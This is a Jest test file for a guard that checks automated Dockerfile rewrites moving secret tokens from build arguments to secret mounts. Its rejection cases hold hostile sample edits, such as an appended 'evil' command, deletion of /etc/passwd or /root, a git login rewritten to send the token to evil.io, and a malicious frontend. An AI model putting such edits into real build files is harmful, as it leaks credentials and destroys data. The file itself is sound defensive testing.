import { describe, expect, test } from "@jest/globals";
import { parse } from "../../dockerfile/dockerfile.js";
import { rejection } from "../guard.js";
import { imagePlan } from "../plan.js";

type Case = readonly [name: string, before: string, after: string];

const SYNTAX = "# syntax=docker/dockerfile:1\n";
const MOUNT = "--mount=type=secret,id=token";
const CAT = "$(cat /run/secrets/token)";
const LOGIN = `"url.https://${CAT}@h.io/.insteadOf=https://h.io/"`;
const KEY = 'echo "$KEY" > ~/.ssh/id_rsa';

function verdict(before: string, after: string, deltas: readonly "secrets"[] = ["secrets"]): string | undefined {
  const whole = (text: string): string => (text.includes("FROM ") ? text : `FROM debian\n${text}`);
  const [was, is] = [parse(whole(before)), parse(whole(after))];
  expect([was.problems, is.problems]).toEqual([[], []]);
  return rejection({ file: was, plan: imagePlan(was) }, { file: is, plan: imagePlan(is) }, new Set(deltas));
}

describe("accepts", () => {
  const cases: readonly Case[] = [
    ["a value from a file", "ARG TOKEN\nRUN a $TOKEN", `RUN ${MOUNT} a ${CAT}`],
    ["one in quotes", 'ARG TOKEN\nRUN a "x${TOKEN}y"', `RUN ${MOUNT} a "x${CAT}y"`],
    ["a frontend", "FROM a\nARG TOKEN\nRUN a $TOKEN", `${SYNTAX}FROM a\nRUN ${MOUNT} a ${CAT}`],
    ["a variable of one command", "ARG TOKEN\nRUN a && b", `RUN ${MOUNT} TOKEN="${CAT}" a && b`],
    ["a variable of all", "ARG TOKEN\nRUN a; b", `RUN ${MOUNT} export TOKEN="${CAT}" && a; b`],
    ["a variable by the mount", "ARG TOKEN\nRUN a $TOKEN", `RUN ${MOUNT},env=TOKEN a $TOKEN`],
    ["one that nothing reads", "ARG TOKEN\nRUN a", "RUN a"],
    ["one of two", "ARG A TOKEN\nRUN a $A $TOKEN", `ARG A\nRUN ${MOUNT} a $A ${CAT}`],
    ["one that ENV passes on", "FROM a AS b\nARG TOKEN\nENV T=$TOKEN B=1\nRUN a $T\nFROM c", `FROM a AS b\nENV B=1\nRUN ${MOUNT} a ${CAT}\nFROM c`],
    ["one that had a value", "ARG TOKEN=abc\nRUN a $TOKEN", `RUN ${MOUNT},required=true a ${CAT}`],
    ["another user's", "ARG TOKEN\nUSER a\nRUN a $TOKEN", `USER a\nRUN ${MOUNT},mode=0444 a ${CAT}`],
    ["a key among other files", `ARG KEY\nRUN ${KEY}\nRUN go mod download\nRUN rm ~/.ssh/id_rsa ~/.ssh/x`, "RUN --mount=type=ssh go mod download\nRUN rm ~/.ssh/x"],
    ["a folder that the copy made", "COPY a /root/.ssh/id_rsa\nRUN b > /root/.ssh/c\nRUN git pull", "RUN mkdir -p /root/.ssh && b > /root/.ssh/c\nRUN --mount=type=secret,id=a,target=/root/.ssh/id_rsa git pull"],
    ["a test", 'ARG TOKEN\nRUN [ -n "$TOKEN" ] && a', `RUN ${MOUNT} [ -s /run/secrets/token ] && a`],
    ["a test for nothing", 'ARG TOKEN\nRUN [ -z "$TOKEN" ] || a', `RUN ${MOUNT} [ ! -s /run/secrets/token ] || a`],
    ["an export without effect", "ARG TOKEN\nRUN export TOKEN=$TOKEN\nRUN a", "RUN a"],
    ["a login that git does not store", "ARG TOKEN\nRUN git clone https://$TOKEN@h.io/a", `RUN ${MOUNT} git -c ${LOGIN} clone https://h.io/a`],
    ["one for what follows", "ARG TOKEN\nRUN git clone https://$TOKEN@h.io/a && git pull", `RUN ${MOUNT} git -c ${LOGIN} clone https://h.io/a && git -c ${LOGIN} pull`],
    ["one that was written out", "RUN git clone https://me:pass1234@h.io/a", `RUN --mount=type=secret,id=h_io_password git -c "url.https://me:$(cat /run/secrets/h_io_password)@h.io/.insteadOf=https://h.io/" clone https://h.io/a`],
    ["a file that is gone now", "ARG TOKEN\nRUN echo $TOKEN > .npmrc && npm i", `RUN ${MOUNT} echo ${CAT} > .npmrc && npm i && rm -f .npmrc`],
    ["a file that others bring", "ARG TOKEN\nRUN echo $TOKEN > .npmrc\nRUN npm i\nRUN rm .npmrc", `RUN ${MOUNT} echo ${CAT} > .npmrc && npm i && rm -f .npmrc`],
    ["a line more that is gone now", "ARG TOKEN\nRUN echo $TOKEN >> .npmrc && npm i", `RUN ${MOUNT} echo ${CAT} >> .npmrc && npm i && sed -i '$d' .npmrc`],
    ["a setting", "ARG TOKEN\nRUN npm config set k $TOKEN && npm i", `RUN ${MOUNT} npm config set k ${CAT} && npm i && npm config delete k`],
    ["an agent", `ARG KEY\nRUN mkdir ~/.ssh && ${KEY} && chmod 600 ~/.ssh/id_rsa\nRUN go mod download\nRUN rm ~/.ssh/id_rsa`, "RUN mkdir ~/.ssh\nRUN --mount=type=ssh go mod download"],
    ["a copied file", "COPY a .netrc /root/\nRUN pip install a\nRUN rm /root/.netrc", "COPY a /root/\nRUN --mount=type=secret,id=netrc,target=/root/.netrc pip install a"],
  ]; // prettier-ignore
  test.each(cases)("%s", (_name, before, after) => {
    expect(verdict(before, after)).toBeUndefined();
    expect(verdict(before, after, [])).toEqual(expect.any(String));
  });
});

describe("rejects", () => {
  const cases: readonly Case[] = [
    ["a mount that is missing", "ARG TOKEN\nRUN a $TOKEN", `RUN a ${CAT}`],
    ["another secret", "ARG TOKEN\nRUN a $TOKEN", "RUN --mount=type=secret,id=other a $(cat /run/secrets/other)"],
    ["a variable without a value", "ARG TOKEN\nRUN a $TOKEN", "RUN a $TOKEN"],
    ["another command", "ARG TOKEN\nRUN a $TOKEN", `RUN ${MOUNT} b ${CAT}`],
    ["a lost command", "ARG TOKEN\nRUN a $TOKEN && b", `RUN ${MOUNT} a ${CAT}`],
    ["another command beside it", "ARG TOKEN\nRUN a $TOKEN", `RUN ${MOUNT} a ${CAT} && evil`],
    ["another variable that is lost", "ARG TOKEN\nENV B=1\nRUN a $TOKEN", `RUN ${MOUNT} a ${CAT}`],
    ["another value of a variable", "ARG TOKEN\nENV B=1\nRUN a $TOKEN", `ENV B=2\nRUN ${MOUNT} a ${CAT}`],
    ["a file that stays", "ARG TOKEN\nRUN echo $TOKEN > .npmrc && npm i", `RUN ${MOUNT} echo ${CAT} > .npmrc && npm i`],
    ["a file that is gone too early", "ARG TOKEN\nRUN echo $TOKEN > .npmrc && npm i", `RUN ${MOUNT} rm -f .npmrc && echo ${CAT} > .npmrc && npm i`],
    ["another file that is removed", "ARG TOKEN\nRUN echo $TOKEN > .npmrc && npm i && rm .npmrc", `RUN ${MOUNT} echo ${CAT} > .npmrc && npm i && rm .npmrc && rm -f /etc/passwd`],
    ["a setting that stays", "ARG TOKEN\nRUN npm config set k $TOKEN && npm i", `RUN ${MOUNT} npm config set k ${CAT} && npm i`],
    ["another setting", "ARG TOKEN\nRUN npm config set k $TOKEN && npm i && npm config delete k", `RUN ${MOUNT} npm config set l ${CAT} && npm i && npm config delete l`],
    ["another value of a file", "ARG TOKEN\nRUN echo a$TOKEN > .npmrc && npm i && rm .npmrc", `RUN ${MOUNT} echo b${CAT} > .npmrc && npm i && rm .npmrc`],
    ["another address", "ARG TOKEN\nRUN git clone https://$TOKEN@h.io/a", `RUN ${MOUNT} git -c ${LOGIN} clone https://h.io/b`],
    ["another server", "ARG TOKEN\nRUN git clone https://$TOKEN@h.io/a", `RUN ${MOUNT} git -c ${LOGIN.replaceAll("h.io", "evil.io")} clone https://evil.io/a`],
    ["a login for another server", "ARG TOKEN\nRUN git clone https://$TOKEN@h.io/a", `RUN ${MOUNT} git -c ${LOGIN.replace("@h.io", "@evil.io")} clone https://h.io/a`],
    ["another option of git", "ARG TOKEN\nRUN git clone https://$TOKEN@h.io/a", `RUN ${MOUNT} git -c core.pager=evil -c ${LOGIN} clone https://h.io/a`],
    ["a login that is lost", "ARG TOKEN\nRUN git clone https://$TOKEN@h.io/a", "RUN git clone https://h.io/a"],
    ["another user's", "ARG TOKEN\nUSER a\nRUN a $TOKEN", `RUN ${MOUNT} a ${CAT}`],
    ["a key that nobody answers for", `ARG KEY\nRUN mkdir ~/.ssh && ${KEY}\nRUN go mod download\nRUN rm ~/.ssh/id_rsa`, "RUN mkdir ~/.ssh\nRUN go mod download"],
    ["another file that is not copied", "COPY a .netrc /root/\nRUN pip install a", "RUN --mount=type=secret,id=netrc,target=/root/.netrc pip install a"],
    ["a test turned round", 'ARG TOKEN\nRUN [ -n "$TOKEN" ] && a', `RUN ${MOUNT} [ ! -s /run/secrets/token ] && a`],
    ["another frontend", "FROM a\nARG TOKEN\nRUN a $TOKEN", `# syntax=evil/frontend\nFROM a\nRUN ${MOUNT} a ${CAT}`],
    ["a login that git stores", "ARG TOKEN\nRUN git clone https://$TOKEN@h.io/a", `RUN ${MOUNT} git clone https://${CAT}@h.io/a`],
    ["one of two files that stays", "ARG TOKEN\nRUN echo $TOKEN > .npmrc && echo $TOKEN > ~/.netrc && a", `RUN ${MOUNT} echo ${CAT} > .npmrc && echo ${CAT} > ~/.netrc && a && rm -f ~/.netrc`],
    ["a mount of the author's that is lost", "ARG TOKEN\nRUN --mount=type=secret,id=o,target=/o a $TOKEN", `RUN ${MOUNT} a ${CAT}`],
    ["a mount over something else", "ARG TOKEN\nRUN a $TOKEN", `RUN ${MOUNT} --mount=type=secret,id=z,target=/etc/passwd a ${CAT}`],
    ["a mount in another place", "ARG TOKEN\nRUN a $TOKEN", `RUN ${MOUNT},target=/x a ${CAT}`],
    ["a plain file that is not copied", "COPY a.conf /etc/\nRUN a", "RUN --mount=type=secret,id=a,target=/etc/a.conf a"],
    ["a public default that is lost", "ARG TOKEN=abc\nRUN a $TOKEN", `RUN ${MOUNT} a ${CAT}`],
    ["a variable of the container", "ARG TOKEN\nENV TOKEN=$TOKEN\nRUN a $TOKEN", `RUN ${MOUNT} a ${CAT}`],
    ["a label that uses it", "ARG TOKEN\nLABEL a=$TOKEN\nRUN a", "LABEL a=$TOKEN\nRUN a"],
    ["a mount that its user cannot read", "ARG TOKEN\nUSER a\nRUN a $TOKEN", `USER a\nRUN ${MOUNT} a ${CAT}`],
    ["another line of a file", "ARG TOKEN\nRUN echo a > .npmrc && echo $TOKEN >> .npmrc && npm i && rm .npmrc", `RUN ${MOUNT} echo evil > .npmrc && echo ${CAT} >> .npmrc && npm i && rm .npmrc`],
    ["a lost line of a file", "ARG TOKEN\nRUN echo a > .npmrc && echo $TOKEN >> .npmrc && npm i && rm .npmrc", `RUN ${MOUNT} echo ${CAT} >> .npmrc && npm i && rm .npmrc`],
    ["another mode of a file", "ARG TOKEN\nRUN echo $TOKEN > .npmrc && chmod 600 .npmrc && npm i && rm .npmrc", `RUN ${MOUNT} echo ${CAT} > .npmrc && chmod 000 .npmrc && npm i && rm .npmrc`],
    ["more that is removed", "ARG TOKEN\nRUN echo $TOKEN > /root/.npmrc && npm i && rm /root/.npmrc", `RUN ${MOUNT} echo ${CAT} > /root/.npmrc && npm i && rm -rf /root`],
    ["an assignment of something else", "ARG TOKEN\nRUN a", `RUN ${MOUNT} TOKEN="x${CAT}" a`],
    ["a comment that is lost", "ARG TOKEN\n# why\nRUN a $TOKEN", `RUN ${MOUNT} a ${CAT}`],
  ]; // prettier-ignore
  test.each(cases)("%s", (_name, before, after) => {
    expect(verdict(before, before)).toBeUndefined();
    expect(verdict(before, after)).toEqual(expect.any(String));
  });
});
